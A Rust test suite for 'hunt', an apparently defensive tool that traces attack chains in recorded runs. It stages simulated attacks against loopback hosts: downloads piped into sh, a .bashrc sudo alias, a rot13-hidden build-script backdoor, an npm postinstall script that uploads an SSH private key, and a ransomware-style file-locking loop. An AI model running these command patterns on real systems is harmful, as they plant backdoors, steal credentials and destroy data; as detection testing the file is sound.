//! `hunt` tells known chains of attack from their first cause to their extent. All of them are
//! simulations that touch the test's own files only.

use backstory_testkit::need::needs;
use serde_json::Value;

use super::Place;
use super::hunt::{LoopbackServer, found, installed_by_npm, npm, only_found};

fn names(files: &Value) -> Vec<&str> {
    files
        .as_array()
        .unwrap()
        .iter()
        .map(|file| file.as_str().unwrap())
        .collect()
}

#[test]
fn a_backdoor_that_a_build_script_downloads_is_told_from_its_cause_to_its_extent() {
    let answer = "echo 'alias sudo=x' >> .bashrc\nfor i in 1 2 3 4; do echo > a$i; done; rm a*\n\
         date > marker; rm marker; date > marker\n";
    let Some((place, server)) = LoopbackServer::at_place(1, answer) else {
        return;
    };
    let build = format!(
        "echo building; {} > stage.sh\nsh stage.sh\n",
        server.download()
    );
    place.write("build.sh", &build);
    let run = place.record("sh build.sh");
    let address = server.end();
    let finding = only_found(&place, &run, "startup-file-written");
    assert_eq!(finding["cause_file"], place.path("stage.sh"));
    assert_eq!(
        finding["cause"]["argv"],
        serde_json::json!(["sh", "stage.sh"])
    );
    assert_eq!(finding["cause_origin"], address);
    let changed = names(&finding["extent"]["changed"]);
    let all = [".bashrc", "a1", "a2", "a3", "a4", "marker"].map(|name| place.path(name));
    assert_eq!(changed, all);
    // The file that the run removed was made by the run, too.
    assert!(names(&finding["extent"]["removed"]).is_empty(), "{finding}");
    only_found(&place, &run, "download-run-by-shell");
    let text = place.run(&["hunt", &run]).out;
    // The files that are still there come first.
    let [first, temporary, .., last] = &all;
    let extent = format!("changed 6: {first}, {last}, {temporary}, ");
    for word in [
        &extent,
        "HIGH",
        "stage.sh",
        "from tcp:127.0.0.1:",
        ".bashrc",
        "backstory of ",
    ] {
        assert!(text.contains(word), "no {word} in {text}");
    }
}

#[test]
fn a_shell_that_follows_a_download_is_told_from_the_address_to_what_it_made() {
    let answer = "echo 'alias sudo=x' >> .bashrc; date > marker\n";
    let Some((place, server)) = LoopbackServer::at_place(2, answer) else {
        return;
    };
    let load = server.download();
    place.write(
        "install.sh",
        &format!("date > other\n{load} | sh -s -- -y\n"),
    );
    // The network told the shell what to do, and not the script that started it.
    let runs = [format!("{load} | sh"), "sh install.sh".to_owned()].map(|line| place.record(&line));
    let address = server.end();
    for (run, shell) in runs.iter().zip([&["sh"][..], &["sh", "-s", "--", "-y"]]) {
        for rule in ["startup-file-written", "download-run-by-shell"] {
            let finding = only_found(&place, run, rule);
            assert_eq!(finding["cause"]["argv"], serde_json::json!(shell));
            assert_eq!(finding["cause_file"], Value::Null, "{finding}");
            assert_eq!(finding["cause_origin"], address);
            assert_eq!(finding["cause_origin_possible"], false);
            let receiver = finding["cause_receiver"]["argv"][2].as_str().unwrap();
            assert!(load.contains(receiver), "{finding}");
            let changed = names(&finding["extent"]["changed"]);
            assert_eq!(changed, [".bashrc", "marker"].map(|name| place.path(name)));
        }
    }
    let text = place.run(&["hunt", &runs[0]]).out;
    let cause = format!("  cause    sh  (from {address}, received by bash -c ");
    assert!(text.contains(&cause), "{text}");
}

#[test]
fn an_address_from_which_perhaps_nothing_came_is_only_possibly_the_origin() {
    if !needs("a download that is killed", &["python3"]) {
        return;
    }
    let place = Place::new();
    let port = CLOSED.rsplit(':').next().unwrap();
    place.write(
        "load.py",
        &format!(
            "import os, signal, socket\n\
             s = socket.socket()\n\
             s.setblocking(False)\n\
             s.connect_ex(('127.0.0.1', {port}))\n\
             os.kill(os.getpid(), signal.SIGKILL)\n"
        ),
    );
    // The shell says that its child was killed.
    let run = place.record("exec 2> /dev/null; python3 load.py | sh");
    let finding = only_found(&place, &run, "download-run-by-shell");
    assert_eq!(finding["cause_origin"], format!("tcp:{CLOSED}"));
    assert_eq!(finding["cause_origin_possible"], true, "{finding}");
    let text = place.run(&["hunt", &run]).out;
    let cause = format!("  cause    sh  (possibly from tcp:{CLOSED}, received by python3");
    assert!(text.contains(&cause), "{text}");
}

/// An address without a server. No other test can get this port.
const CLOSED: &str = "127.0.0.1:1";

#[test]
fn a_download_that_was_refused_is_no_finding() {
    if !needs("a download that fails", &["curl"]) {
        return;
    }
    let place = Place::new();
    let run = place.record(&format!("curl -s http://{CLOSED}/setup.sh | sh"));
    let none = found(&place, &run, "download-run-by-shell");
    assert_eq!(none, Vec::<Value>::new());
    // The attempt itself is in the record.
    let peers = place.run(&["peers", &run]).out;
    assert!(peers.contains(CLOSED), "{peers}");
}

#[test]
fn a_text_for_a_shell_possibly_came_from_what_the_shell_above_read_last() {
    let answer = "echo 'alias sudo=x' >> .bashrc\n";
    let Some((place, server)) = LoopbackServer::at_place(3, answer) else {
        return;
    };
    let load = server.download();
    let lines = [
        format!("sh -c \"$({load})\"; true"),
        // The shell above wrote this text itself, or got it from something else.
        format!("V=$({load}); sh -c 'echo x >> .bashrc'; true"),
        format!("V=$({load}); sh -c \"$(printf 'echo x >> .%s' bashrc)\"; true"),
    ];
    let runs = lines.each_ref().map(|line| place.record(line));
    let address = server.end();
    let origins = [Value::from(address), Value::Null, Value::Null];
    for ((line, run), origin) in lines.iter().zip(&runs).zip(&origins) {
        let finding = only_found(&place, run, "startup-file-written");
        assert_eq!(finding["cause_origin"], *origin, "{line}");
        assert_eq!(
            finding["cause_origin_possible"],
            !origin.is_null(),
            "{line}"
        );
    }
    let text = place.run(&["hunt", &runs[0]]).out;
    assert!(text.contains("  (possibly from tcp:127.0.0.1:"), "{text}");
}

#[test]
fn a_backdoor_in_a_build_is_told_from_its_payload_to_what_used_the_result() {
    let place = Place::new();
    let payload = "echo backdoor >> auth.c\necho x >> .bashrc\n";
    let is_letter = |one: char| one.is_ascii_lowercase();
    let turned = |one: char| char::from((one as u8 - b'a' + 13) % 26 + b'a');
    let hidden = payload.chars().map(|one| match is_letter(one) {
        true => turned(one),
        false => one,
    });
    place.write("tests.dat", &hidden.collect::<String>());
    place.write("configure.sh", "cat tests.dat | tr a-z n-za-m | sh\n");
    place.write("auth.c", "auth\n");
    place.write("util.c", "util\n");
    let run = place.record(
        "sh configure.sh; cat auth.c > auth.o; cat auth.o util.c > app; rm auth.o; cat util.c > log",
    );
    let later = place.record("cat app > deployed; cat util.c > unused");
    place.record("cat util.c > other");
    let finding = only_found(&place, &run, "startup-file-written");
    assert_eq!(finding["cause_file"], place.path("configure.sh"));
    assert_eq!(finding["cause_input"], place.path("tests.dat"));
    let extent = &finding["extent"];
    let changed = [".bashrc", "auth.c"].map(|name| place.path(name));
    assert_eq!(names(&extent["changed"]), changed);
    // The object file is gone.
    assert_eq!(names(&extent["built"]), [place.path("app")]);
    assert_eq!(names(&finding["later"]["runs"]), [&later]);
    assert_eq!(names(&finding["later"]["files"]), [place.path("deployed")]);
    let text = place.run(&["hunt", &run]).out;
    let (app, deployed) = (place.path("app"), place.path("deployed"));
    for words in [
        &*format!(", with {})", place.path("tests.dat")),
        &format!("; built from these 1: {app}\n"),
        &format!("  later    used in 1 run: {later}; made there 1: {deployed}\n"),
    ] {
        assert!(text.contains(words), "no {words} in {text}");
    }
}

#[test]
fn a_file_that_the_caller_redirected_output_to_comes_last_in_an_extent() {
    let place = Place::new();
    let log = std::fs::File::create(place.work().join("a.log")).unwrap();
    let line = "for i in 1 2 3 4 5; do echo > d$i; done; echo x >> .bashrc; echo done";
    let mut command = place.command(&["record", "--", "sh", "-c", line]);
    assert!(command.stdout(log).status().unwrap().success());
    place.finalized();
    let text = place.run(&["hunt"]).out;
    let mut lines = text.lines();
    let extent = lines.find(|line| line.starts_with("  extent ")).unwrap();
    assert!(extent.contains("/d3, "), "{text}");
    assert!(!extent.contains("a.log"), "{text}");
}

#[test]
fn a_theft_by_an_install_script_is_told_from_its_cause_to_its_extent() {
    let Some((place, server)) = LoopbackServer::at_place(1, "") else {
        return;
    };
    let script = format!("cat .ssh/id_ed25519 | base64 | {}\n", server.upload());
    npm(&place, &script);
    let Some(run) = installed_by_npm(&place, "sh package/postinstall.sh") else {
        return;
    };
    let address = server.end();
    let mut rules = Vec::new();
    for finding in place.json(&["hunt", &run, "--json"]).as_array().unwrap() {
        rules.push(finding["rule"].as_str().unwrap().to_owned());
        if rules.last().unwrap() == "secret-sent" {
            assert_eq!(
                finding["cause_file"],
                place.path("package/postinstall.sh"),
                "{finding}"
            );
            assert_eq!(names(&finding["extent"]["sent_to"]), [&address]);
        }
    }
    // The most serious first.
    assert_eq!(rules, ["install-script-reads-keys", "secret-sent"]);
}

#[test]
fn a_storm_of_renames_is_told_from_its_cause_to_its_extent() {
    let place = Place::new();
    for number in 0..30 {
        place.write(format!("doc{number}"), "mine\n");
    }
    place.write(
        "lock.sh",
        "for f in doc*; do tr a-z n-za-m < $f > $f.locked; rm $f; done; echo pay > README\n",
    );
    let run = place.record("sh lock.sh");
    let finding = only_found(&place, &run, "rename-storm");
    assert_eq!(finding["cause_file"], place.path("lock.sh"));
    assert_eq!(finding["cause_input"], Value::Null);
    assert_eq!(names(&finding["extent"]["removed"]).len(), 30);
    assert_eq!(names(&finding["extent"]["changed"]).len(), 31);
}

#[test]
fn the_script_of_a_package_is_the_cause_and_not_that_of_its_installer() {
    if !needs("an installer", &["python3"]) {
        return;
    }
    let place = Place::new();
    std::fs::create_dir_all(place.work().join("lib/site-packages")).unwrap();
    let hook = "lib/site-packages/hook.py";
    let writes = "open('.bashrc', 'a').write('x')\n";
    place.write("setup.py", writes);
    // The installer executes the script of the package, and then writes the file itself.
    for (text, cause) in [
        ("exec(open('setup.py').read())\n", "setup.py"),
        (writes, hook),
    ] {
        place.write(hook, text);
        let run = place.record(&format!("python3 {hook}"));
        let finding = only_found(&place, &run, "startup-file-written");
        assert_eq!(finding["cause_file"], place.path(cause), "{text}");
    }
}
